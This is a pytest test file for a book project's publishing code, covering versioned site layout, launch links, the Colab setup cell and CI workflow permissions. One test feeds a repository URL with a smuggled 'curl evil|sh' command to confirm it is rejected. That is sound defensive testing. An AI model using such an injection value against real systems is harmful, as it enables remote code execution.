"""Publishing: the versioned site layout, and what the publishing build puts online."""

import functools
import http.server
import json
import os
import re
import shlex
import sys
import threading
import tomllib
import types
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup
from packaging.version import Version

import tasks
from conftest import PUBLISH_ENV, ROOT, VIEWPORTS, QuietHandler, visit
from double_ally.book import publish
from double_ally.core import citation
from double_ally.core.datapackage import read_package

BASE = PUBLISH_ENV["DOUBLE_ALLY_BASE_URL"]


def fake_build(path: Path, marker: str) -> Path:
    (path / "book").mkdir(parents=True)
    (path / "index.html").write_text(f"<p>{marker}</p>")
    (path / "book" / "trade.html").write_text(marker)
    return path


# ------------------------------------------------------------------------------ the versioned site

def test_a_release_becomes_the_root_and_keeps_its_own_folder(tmp_path):
    site = tmp_path / "site"
    publish.assemble(fake_build(tmp_path / "a", "release 0.1"), site, "v0.1")
    listing = publish.assemble(fake_build(tmp_path / "b", "release 0.2"), site, "v0.2")
    assert (site / "v0.1" / "book" / "trade.html").read_text() == "release 0.1"
    assert (site / "v0.2" / "book" / "trade.html").read_text() == "release 0.2"
    assert (site / "book" / "trade.html").read_text() == "release 0.2"
    assert listing == {"latest": "v0.2", "versions": ["v0.2", "v0.1"], "dev": False}
    assert json.loads((site / "versions.json").read_text()) == listing
    assert (site / ".nojekyll").exists()


def test_republishing_an_older_release_or_a_preview_leaves_the_root_alone(tmp_path):
    site = tmp_path / "site"
    publish.assemble(fake_build(tmp_path / "a", "0.9"), site, "v0.9")
    publish.assemble(fake_build(tmp_path / "b", "0.10"), site, "v0.10")  # 10 > 9, not "10" < "9"
    publish.assemble(fake_build(tmp_path / "c", "0.9 fixed"), site, "v0.9")
    listing = publish.assemble(fake_build(tmp_path / "d", "main"), site, "dev")
    assert (site / "index.html").read_text() == "<p>0.10</p>"
    assert (site / "v0.9" / "index.html").read_text() == "<p>0.9 fixed</p>"
    assert (site / "dev" / "index.html").read_text() == "<p>main</p>"
    assert listing["latest"] == "v0.10" and listing["dev"] is True


def test_assembly_refuses_an_unbuilt_book_and_odd_folder_names(tmp_path):
    with pytest.raises(FileNotFoundError, match="no index.html"):
        publish.assemble(tmp_path / "empty", tmp_path / "site", "v0.1")
    with pytest.raises(ValueError, match="vMAJOR.MINOR"):
        publish.assemble(fake_build(tmp_path / "a", "x"), tmp_path / "site", "latest")


def test_addresses_follow_the_settings(monkeypatch):
    monkeypatch.setenv("DOUBLE_ALLY_BASE_URL", "https://someone.github.io/double-ally/")
    monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://github.com/someone/double-ally")
    monkeypatch.delenv("DOUBLE_ALLY_SITE_FOLDER", raising=False)
    assert publish.url_prefix() == "/double-ally/"
    links = publish.launch_links("book/trade")
    version = citation.metadata()["version"]
    assert links["Binder"].endswith(f"/someone/double-ally/v{version}?urlpath=lab/tree/book/trade.md")
    assert f"/blob/gh-pages/{citation.version_folder()}/_notebooks/book/trade.ipynb" in links["Colab"]
    monkeypatch.setenv("DOUBLE_ALLY_SITE_FOLDER", "dev")
    assert "/main?" in publish.launch_links("book/trade")["Binder"]
    monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://gitlab.com/someone/double-ally")
    assert publish.launch_links("book/trade") == {} and publish.colab_setup_source() is None
    monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://github.com/someone/x;curl evil|sh")
    assert publish.launch_links("book/trade") == {} and publish.colab_setup_source() is None


class FakeColab:
    """What the Colab setup cell asks of IPython, recorded; ``git clone`` gives this repository."""

    def __init__(self):
        self.commands = []

    def system(self, command):
        self.commands.append(shlex.split(command))
        if command.startswith("git clone"):
            Path(shlex.split(command)[-1]).symlink_to(ROOT, target_is_directory=True)

    def run_line_magic(self, name, line):
        self.commands.append([name, *shlex.split(line)])


def run_colab_cell(monkeypatch, tmp_path, on_colab: bool = True) -> tuple[list[list[str]], Path]:
    """Run the setup cell as Colab would (IPython syntax made Python), without a network."""
    from IPython.core.inputtransformer2 import TransformerManager

    python = TransformerManager().transform_cell(publish.colab_setup_source())
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    if on_colab:
        monkeypatch.setitem(sys.modules, "google.colab", types.ModuleType("google.colab"))
    colab = FakeColab()
    exec(compile(python, "colab-setup", "exec"), {"get_ipython": lambda: colab})
    return colab.commands, Path.cwd()


def test_the_colab_cell_installs_the_release_with_its_pinned_hashed_requirements(monkeypatch, tmp_path):
    monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://github.com/someone/double-ally")
    monkeypatch.delenv("DOUBLE_ALLY_SITE_FOLDER", raising=False)
    path_before = list(sys.path)
    (clone, pip_itself, needs_install, package), cwd = run_colab_cell(monkeypatch, tmp_path)
    version = yaml.safe_load((ROOT / "CITATION.cff").read_text())["version"]
    assert clone == ["git", "clone", "--depth", "1", "--branch", f"v{version}",
                     "https://github.com/someone/double-ally", "double-ally"]
    assert pip_itself == ["pip", "install", "--quiet", "--require-hashes", "--no-deps", "-r", "pinned-pip.txt"]
    pinned_pip = (tmp_path / "pinned-pip.txt").read_text()
    pip_version = re.match(r"pip==(\S+)", pinned_pip).group(1)
    assert Version(pip_version) >= Version("26.1"), "pip checks the hashes of a constraints file from 26.1 on"
    assert pinned_pip.count("--hash=sha256:") >= 1
    with open(ROOT / "pyproject.toml", "rb") as f:
        needs = tomllib.load(f)["project"]["dependencies"]
    assert needs_install == ["pip", "install", "--quiet", "--constraint", "double-ally/requirements.txt", *needs]
    for name in needs:  # each is pinned, with the hashes of its files, in the file the cell constrains to
        lines = tasks.pinned(ROOT / "requirements.txt", [name])
        assert "==" in lines and "--hash=sha256:" in lines, name
    # the package itself, from the release's code, installed (as a wheel pip builds): the notebook imports
    # the installed package, never the clone (tests/book/test_notebooks.py runs them so, from a wheel)
    assert package == ["pip", "install", "--quiet", "--no-deps", "./double-ally"]
    assert sys.path == path_before and cwd == tmp_path.resolve()


def test_the_colab_cell_of_a_preview_fetches_main_and_does_nothing_outside_colab(monkeypatch, tmp_path):
    monkeypatch.setenv("DOUBLE_ALLY_REPOSITORY", "https://github.com/someone/double-ally")
    monkeypatch.setenv("DOUBLE_ALLY_SITE_FOLDER", "dev")
    commands, _ = run_colab_cell(monkeypatch, tmp_path)
    assert commands[0][:6] == ["git", "clone", "--depth", "1", "--branch", "main"]
    monkeypatch.delitem(sys.modules, "google.colab")
    (tmp_path / "elsewhere").mkdir()
    assert run_colab_cell(monkeypatch, tmp_path / "elsewhere", on_colab=False)[0] == []


WORKFLOW = ROOT / ".github" / "workflows" / "publish.yml"


def workflow() -> dict:
    return yaml.safe_load(WORKFLOW.read_text())


def steps(job: dict) -> list[dict]:
    return job["steps"]


def test_the_workflow_builds_with_the_readme_command_and_publishes_the_build():
    jobs = workflow()["jobs"]
    build = "\n".join(step.get("run", "") for step in steps(jobs["build"]))
    assert "python3 tasks.py book" in build and "python3 tasks.py pdf" in build and "python3 tasks.py test" in build
    assert "python -m double_ally.book.publish" in "\n".join(step.get("run", "") for step in steps(jobs["publish"]))
    assert jobs["publish"]["needs"] == "build"
    uploaded = [s["with"] for s in steps(jobs["build"]) if s.get("uses", "").startswith("actions/upload-artifact@")]
    downloaded = [s["with"] for s in steps(jobs["publish"]) if s.get("uses", "").startswith("actions/download-artifact@")]
    assert uploaded and downloaded and uploaded[0]["path"] == downloaded[0]["path"] == "_build/html"
    assert uploaded[0]["name"] == downloaded[0]["name"]
    assert "DOUBLE_ALLY_BASE_URL" in json.dumps(jobs["build"])
    readme = (ROOT / "README.md").read_text()
    assert "python3 tasks.py book" in readme


def test_only_the_job_that_pushes_the_site_may_write():
    """The workflow's token reads; write access is the publish job's alone, and the job that runs the
    book's code, pip and the tests never sees a token."""
    flow = workflow()
    assert flow["permissions"] == {"contents": "read"}
    writers = {name for name, job in flow["jobs"].items()
               if any(level == "write" for level in (job.get("permissions") or {}).values())}
    assert writers == {"publish"}
    assert flow["jobs"]["publish"]["permissions"] == {"contents": "write"}
    for name, job in flow["jobs"].items():
        script = "\n".join(step.get("run", "") for step in steps(job))
        assert ("git push" in script) == (name == "publish"), name
        if "tasks.py" in script and "tasks.py book" in script:
            assert "github.token" not in json.dumps(job) and "secrets." not in json.dumps(job), name


def test_every_checkout_keeps_no_credentials():
    checkouts = [step for job in workflow()["jobs"].values() for step in steps(job)
                 if step.get("uses", "").startswith("actions/checkout@")]
    assert len(checkouts) == len(workflow()["jobs"])
    assert all(step.get("with", {}).get("persist-credentials") is False for step in checkouts)


def test_every_action_is_pinned_to_a_commit_with_its_tag_beside_it():
    uses = re.findall(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$", WORKFLOW.read_text(), re.M)
    assert len(uses) == sum(1 for job in workflow()["jobs"].values() for step in steps(job) if "uses" in step)
    for action, comment in uses:
        assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", action), action
        assert re.fullmatch(r"\s+# v\d+(\.\d+)*", comment), f"{action}: the tag it stands for, as a comment"

# ------------------------------------------------------------------------ what the build publishes

@pytest.mark.build
def test_every_sitemap_address_is_a_page_of_the_built_book(built_book):
    tree = ET.parse(built_book / "sitemap.xml")
    locs = [e.text for e in tree.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    pages = {str(p.relative_to(built_book)) for p in built_book.rglob("*.html")
             if "_static" not in p.parts and p.name not in {"404.html", "search.html", "genindex.html"}
             and "Refresh" not in p.read_text()[:300]}
    here = f"{BASE}/{citation.version_folder()}/"  # every address is the version's own
    assert locs and all(loc.startswith(here) for loc in locs)
    found = {loc.removeprefix(here) for loc in locs}
    assert found == pages


@pytest.mark.build
def test_every_page_has_social_and_canonical_tags(built_book):
    for path in sorted((built_book / "book").glob("*.html")):
        text = path.read_text(encoding="utf-8")
        page = path.relative_to(built_book).as_posix()
        here = f"{BASE}/{citation.version_folder()}/{page}"  # the version's own address
        assert f'<meta property="og:url" content="{here}"' in text, page
        assert '<meta property="og:title"' in text and '<meta property="og:description"' in text, page
        assert f'<link rel="canonical" href="{here}"' in text, page


@pytest.mark.build
def test_chapters_offer_launch_links_to_files_that_exist(built_book):
    chapters = [p for p in sorted((built_book / "book").glob("*.html")) if 'class="da-launch"' in p.read_text()]
    assert len(chapters) >= 2
    for page in chapters:
        text = page.read_text(encoding="utf-8")
        binder = re.search(r'class="da-launch-binder" href="[^"]+urlpath=lab/tree/([^"]+)"', text).group(1)
        colab = re.search(r'class="da-launch-colab" href="[^"]+/blob/gh-pages/v[\d.]+/([^"]+)"', text).group(1)
        assert (ROOT / binder).is_file(), f"Binder would open {binder}, which is not in the repository"
        assert (built_book / colab).is_file(), f"Colab would open {colab}, which the site does not publish"


def test_binder_installs_the_hashed_requirements_then_the_package():
    """Binder reads .binder/ (and then nothing at the top level): the pinned requirements with their
    hashes, the Python version, and a postBuild that installs the book's package without dependencies."""
    binder = ROOT / ".binder"
    lines = [x.strip() for x in (binder / "requirements.txt").read_text().splitlines() if x.strip()[:1] not in {"", "#"}]
    assert lines == ["-r ../requirements.txt"]
    assert "--hash=sha256:" in (ROOT / "requirements.txt").read_text()
    assert (binder / "runtime.txt").read_text().strip() == "python-3.11"
    post = binder / "postBuild"
    assert os.access(post, os.X_OK)
    assert "pip install --quiet --no-deps --no-build-isolation -e ." in post.read_text()


@pytest.mark.build
def test_the_derived_tables_are_published_with_their_package(built_book):
    package = json.loads((built_book / "data" / "datapackage.json").read_text())
    assert package == read_package()
    for resource in package["resources"]:
        assert (built_book / "data" / resource["path"]).read_bytes() == (ROOT / "data" / resource["path"]).read_bytes()


@pytest.mark.build
@pytest.mark.browser
def test_the_404_page_works_under_the_sites_address(built_book, browser, tmp_path):
    """Served as GitHub Pages would (the book under /double-ally/), the 404 page draws with its
    styles and every link on it leads to a page that exists."""
    prefix = publish.urlparse(BASE).path.strip("/")
    (tmp_path / prefix).symlink_to(built_book, target_is_directory=True)
    handler = functools.partial(QuietHandler, directory=str(tmp_path))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        root = f"http://127.0.0.1:{httpd.server_address[1]}"
        page, errors, outside = visit(browser, f"{root}/{prefix}/404.html", VIEWPORTS["desktop"])
        assert not errors and not outside, errors + outside
        assert page.locator("main h1").count() >= 1
        hrefs = page.eval_on_selector_all("main a[href]", "els => els.map(e => e.getAttribute('href'))")
        assert len(hrefs) >= 3 and all(h.startswith(f"/{prefix}/") for h in hrefs), hrefs
        for href in hrefs:
            target = built_book / href.removeprefix(f"/{prefix}/")
            assert target.exists() or href.endswith("versions.json"), href
        page.close()
    finally:
        httpd.shutdown()


@pytest.mark.build
def test_every_chart_is_in_the_figure_to_code_map(built_book):
    charts = set()
    for page in (built_book / "book").glob("*.html"):
        charts |= {(page.stem, n) for n in re.findall(r'data-chart-name="([^"]+)"', page.read_text())}
    reproduce = (built_book / "book" / "reproduce.html").read_text(encoding="utf-8")
    table = reproduce[reproduce.index("da-figure-map"):]
    mapped = set(re.findall(r'href="(\w+)\.html#chart-([^"]+)"', table))
    assert charts and mapped == charts
    tables = {r["name"] for r in read_package()["resources"]}
    for named in re.findall(r"<code>(\w+)</code>", table):
        assert named in tables or "." in named or named.isidentifier()


@pytest.mark.build
def test_every_chapter_opens_with_an_abstract_and_key_findings(built_book):
    toc = yaml.safe_load((ROOT / "_toc.yml").read_text())
    chapters = [c["file"] for part in toc["parts"] if part["caption"] == "Chapters" for c in part["chapters"]]
    for chapter in chapters:
        text = (built_book / f"{chapter}.html").read_text(encoding="utf-8")
        article = text[text.index("<article"):]
        assert 'class="da-abstract' in article, f"{chapter} has no abstract"
        first_section = article.find("<h2")
        assert first_section == -1 or article.index("da-abstract") < first_section, f"{chapter}: abstract not on top"
        if chapter != "book/claims":
            top = BeautifulSoup(article[:first_section], "html.parser")
            assert top.select(".admonition li"), f"{chapter} has no list of key findings on top"


@pytest.mark.build
@pytest.mark.browser
def test_search_finds_chapter_text_and_table_names(built_book, server, browser):
    for query, expected in [("arrivals_monthly", "data.html"), ("mirror", "trade.html"),
                            ("unsc_dprk_record", "data.html")]:
        page, errors, _ = visit(browser, f"{server}/search.html?q={query}", VIEWPORTS["desktop"])
        page.wait_for_selector("#search-results ul.search li", timeout=10_000)
        hrefs = page.eval_on_selector_all("#search-results a", "els => els.map(e => e.getAttribute('href'))")
        assert any(expected in h for h in hrefs), (query, hrefs)
        assert not errors, errors
        page.close()
